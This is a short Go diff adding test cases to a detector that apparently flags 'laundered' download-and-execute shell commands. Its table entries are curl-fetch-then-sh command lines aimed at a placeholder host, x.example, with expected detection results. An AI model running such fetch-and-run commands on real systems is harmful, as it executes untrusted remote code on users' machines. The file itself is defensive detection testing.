@@ -39,6 +39,8 @@ func TestLaunderPaths(t *testing.T) {
 		{"cd sub && curl -o i.sh https://x.example/i.sh && cd .. && sh sub/i.sh", true},
 		// unknown directory on both sides: compared as written
 		{"cd \"$D\" && curl -o i.sh https://x.example/i.sh && sh i.sh", true},
+		{"cd \"$D\" && curl -o i.sh https://x.example/i.sh; cd /home/user/proj && sh i.sh", true},
+		{"cd \"$D\" && curl -o i.sh https://x.example/i.sh; cd /home/user/proj && sh j.sh", false},
 		// order: running first, downloading after, is not laundering
 		{"sh i.sh; curl -o i.sh https://x.example/i.sh", false},
 		// another file
